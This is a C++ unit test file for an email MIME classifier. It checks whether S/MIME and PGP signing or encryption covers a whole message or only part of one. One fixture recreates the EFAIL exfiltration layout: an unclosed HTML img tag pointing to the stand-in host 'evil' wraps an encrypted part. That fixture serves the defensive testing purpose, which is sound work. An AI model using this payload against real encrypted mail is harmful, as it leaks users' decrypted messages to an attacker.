// mail/mime/classify: where a message is protected, and whether the protection covers it all.
#include "mail/mime/classify.hpp"

#include <gtest/gtest.h>

#include <string>

namespace keyfence::mail::mime {
namespace {

Classification classify_text(const std::string& text) {
    auto message = Message::parse(text);
    EXPECT_TRUE(message) << message.error().message();
    return classify(*message);
}

const std::string kHeaders =
    "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: s\r\n"
    "MIME-Version: 1.0\r\n";

TEST(Classify, PlainTextIsUnprotected) {
    auto c = classify_text(kHeaders + "Content-Type: text/plain\r\n\r\nhello\r\n");
    EXPECT_TRUE(c.plain());
    EXPECT_FALSE(c.mixed);
}

TEST(Classify, SmimeSignedBodyIsWhole) {
    auto c =
        classify_text(kHeaders +
                      "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; "
                      "micalg=sha-256; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
                      "hi\r\n--b\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n"
                      "--b--\r\n");
    ASSERT_TRUE(c.whole());
    EXPECT_EQ(c.parts[0].protection, Protection::SmimeSigned);
    EXPECT_FALSE(c.mixed);
}

TEST(Classify, EncryptedPartBetweenPlainPartsIsMixed) {
    // The EFAIL direct-exfiltration shape: an encrypted entity between attacker-written parts.
    auto c = classify_text(
        kHeaders +
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n"
        "<img src=\"http://evil/?\r\n--m\r\nContent-Type: application/pkcs7-mime; "
        "smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n--m\r\n"
        "Content-Type: text/html\r\n\r\n\">\r\n--m--\r\n");
    ASSERT_EQ(c.parts.size(), 1u);
    EXPECT_EQ(c.parts[0].protection, Protection::SmimeEncrypted);
    EXPECT_EQ(c.parts[0].path, "2");
    EXPECT_TRUE(c.mixed);
    EXPECT_FALSE(c.whole());
}

TEST(Classify, PgpMimeEncryptedAndSigned) {
    auto encrypted = classify_text(
        kHeaders +
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n"
        "\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\n"
        "Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n"
        "-----END PGP MESSAGE-----\r\n--e--\r\n");
    ASSERT_TRUE(encrypted.whole());
    EXPECT_EQ(encrypted.parts[0].protection, Protection::PgpEncrypted);

    auto signed_part = classify_text(
        kHeaders +
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\n"
        "prepended by the attacker\r\n--m\r\nContent-Type: multipart/signed; "
        "protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=s\r\n\r\n--s\r\n"
        "Content-Type: text/plain\r\n\r\nsigned\r\n--s\r\nContent-Type: "
        "application/pgp-signature\r\n\r\nx\r\n--s--\r\n--m--\r\n");
    ASSERT_EQ(signed_part.parts.size(), 1u);
    EXPECT_EQ(signed_part.parts[0].protection, Protection::PgpSigned);
    EXPECT_EQ(signed_part.parts[0].path, "2");
    EXPECT_TRUE(signed_part.mixed);
}

TEST(Classify, InlinePgpOnlyAtTheStartOfALine) {
    auto inline_signed = classify_text(kHeaders +
                                       "Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED "
                                       "MESSAGE-----\r\nHash: SHA256\r\n\r\nhi\r\n");
    ASSERT_TRUE(inline_signed.whole());
    EXPECT_EQ(inline_signed.parts[0].protection, Protection::PgpInlineSigned);

    auto quoted = classify_text(kHeaders +
                                "Content-Type: text/plain\r\n\r\nhe wrote: -----BEGIN PGP "
                                "MESSAGE----- and so on\r\n");
    EXPECT_TRUE(quoted.plain());
}

TEST(Classify, ForwardedSignedMessageIsNeverTheWholeMessage) {
    auto c = classify_text(
        kHeaders +
        "Content-Type: message/rfc822\r\n\r\nFrom: manager@example.org\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\r\n"
        "\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: "
        "application/pkcs7-signature\r\n\r\nAAAA\r\n--b--\r\n");
    ASSERT_EQ(c.parts.size(), 1u);
    EXPECT_EQ(c.parts[0].path, "1");
    EXPECT_TRUE(c.mixed);
}

TEST(Classify, UnknownProtocolsAreNamedNotTrusted) {
    auto c =
        classify_text(kHeaders +
                      "Content-Type: multipart/signed; protocol=\"application/x-other\"; "
                      "boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n");
    ASSERT_TRUE(c.whole());
    EXPECT_EQ(c.parts[0].protection, Protection::UnknownSigned);
    EXPECT_STREQ(protection_name(c.parts[0].protection), "unknown-signed");
}

}  // namespace
}  // namespace keyfence::mail::mime
